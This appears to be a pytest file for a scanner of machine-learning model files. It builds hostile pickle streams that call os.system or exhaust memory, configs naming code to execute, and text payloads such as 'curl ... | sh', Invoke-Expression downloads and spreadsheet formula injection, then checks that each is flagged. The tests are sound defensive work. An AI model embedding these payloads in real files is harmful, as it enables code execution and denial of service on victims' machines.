"""What an attacker may try next, each of which passed once; nothing here is loaded."""

import base64
import json

import pytest

from vallum.scan import scan_bytes


def text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value.encode())]) + value.encode()


def name(module: str, leaf: str) -> bytes:
    return text(module) + text(leaf) + b"\x93"


P4 = b"\x80\x04"
MADE = name("collections", "OrderedDict") + b")R"
HOOK = text("__setstate__") + name("xgboost.core", "Booster")
RUN = text("/etc/passwd") + b"b."
HUGE = b"\x8a\x06" + (1 << 44).to_bytes(6, "little")
EVIL = P4 + name("os", "system") + text("id") + b"\x85R."


@pytest.mark.parametrize(
    ("data", "id_"),
    [
        (MADE + b"N}" + HOOK + b"s\x86b" + RUN, "pickle.unusual-state"),
        (MADE + b"}" + HOOK + b"sN\x86b" + RUN, "pickle.unusual-state"),
        (MADE + MADE + HOOK + b"sb" + RUN, "pickle.unusual-state"),
        (
            MADE + name("builtins", "dict") + b"]" + HOOK + b"\x86a\x85Rb" + RUN,
            "pickle.unusual-state",
        ),
        (name("builtins", "bytearray") + HUGE + b"\x85R.", "pickle.arguments"),
        (name("numpy", "ndarray") + HUGE + b"\x85\x85R.", "pickle.arguments"),
        (name("builtins", "range") + HUGE + b"\x85R.", "pickle.arguments"),
    ],
)
def test_a_state_cannot_give_an_object_a_method_and_a_number_cannot_fill_the_memory(
    data: bytes, id_: str
) -> None:
    report = scan_bytes("x.pkl", P4 + data).files[0]
    assert id_ in [finding.id for finding in report.findings]


LARGE = name("builtins", "range") + b"J" + (1 << 30).to_bytes(4, "little") + b"\x85R"


@pytest.mark.parametrize(
    "data",
    [
        name("builtins", "list") + LARGE + b"\x85R.",
        name("collections", "Counter") + name("builtins", "tuple") + LARGE + b"\x85R\x85R.",
        b"(" + (name("builtins", "bytearray") + b"J\0\0\0\x06\x85R") * 3 + b"t.",
        name("numpy", "ndarray") + b"M\xff\xffM\xff\xff\x86\x85R.",
    ],
    ids=["list", "twice", "many", "shape"],
)
def test_a_small_stream_that_fills_the_memory_is_refused(data: bytes) -> None:
    report = scan_bytes("x.pkl", P4 + data).files[0]
    assert [finding.id for finding in report.findings] == ["pickle.bomb"]


@pytest.mark.parametrize(
    "value",
    [
        {"trust_remote_code": "true"},
        {"trust_remote_code": 1},
        {"weights_only": False},
        {"safe_mode": False},
        {"enable_unsafe_deserialization": True},
        {"tokenizer_class": "../../evil"},
        {"target": "os.system", "params": {}},
        {"class_path": "os.system", "init_args": {}},
        {"_class_name": ["pipeline", "Mine"]},
        {"_class_name": "X", "unet": ["my_module", "X"]},
        {"py/object": "os.system"},
        {"a": [{"py/reduce": []}]},
        {"handler": "code/h.py:run"},
        {"sagemaker_program": "x.py"},
        {"x": base64.b64encode(EVIL).decode()},
    ],
)
def test_a_configuration_that_names_code_is_refused(value: object) -> None:
    assert scan_bytes("config.json", json.dumps(value).encode()).exit_code == 1


@pytest.mark.parametrize(
    "value",
    [
        {"trust_remote_code": False},
        {"trust_remote_code": "false"},
        {"weights_only": True},
        {"tokenizer_class": "LlamaTokenizerFast"},
        {"target": "label", "params": {"a": 1}},
        {"handler": "image_classifier"},
        {"x": base64.b64encode(b"\x80\x04N.").decode()},
    ],
)
def test_a_configuration_that_names_none_passes(value: object) -> None:
    assert scan_bytes("config.json", json.dumps(value).encode()).exit_code == 0


@pytest.mark.parametrize(
    "content",
    [
        "Invoke-Expression (iwr http://example.org)",
        "@echo off\r\ncalc.exe",
        "FROM x\nRUN id",
        "all:\n\tcurl http://example.org | sh",
        "# {{ a }}\nimport os\n",
        'os.execute("id")',
        "\ufeffimport os\n",
        "# coding: utf-7\n+AGkAbQBwAG8AcgB0-",
        "=cmd|' /C calc'!A0,1\n",
        "[options.entry_points]\nconsole_scripts=\n a=b:c",
        "%PDF-1.4\n1 0 obj<</JS(x)>>",
        "RDX3\nA\n3\n",
    ],
)  # fmt: skip
def test_a_text_that_some_program_runs_is_refused(content: str) -> None:
    assert scan_bytes("x.txt", content.encode()).exit_code == 1


def varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def field(number: int, body: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(body)) + body


def graph(operator: bytes, domain: bytes) -> bytes:
    node = field(1, b"x") + field(2, b"y") + field(4, operator) + field(7, domain)
    opset = field(8, field(1, b"") + b"\x10\x0d") + field(8, field(1, domain) + b"\x10\x01")
    return b"\x08\x08" + field(7, field(1, node)) + opset


@pytest.mark.parametrize("operator", [b"PythonOp", b"ATen", b"EPContext", b"Snpe", b"Anything"])
def test_an_operator_of_the_runtime_that_calls_out_is_refused(operator: bytes) -> None:
    report = scan_bytes("m.onnx", graph(operator, b"com.microsoft")).files[0]
    assert "onnx.custom-operator" in [finding.id for finding in report.findings]
    assert scan_bytes("m.onnx", graph(b"FusedMatMul", b"com.microsoft")).exit_code == 0


def test_a_comment_of_a_zip_that_is_no_text_is_refused() -> None:
    empty = b"PK\x05\x06" + bytes(16)
    assert scan_bytes("x.zip", empty + len(EVIL).to_bytes(2, "little") + EVIL).exit_code == 1
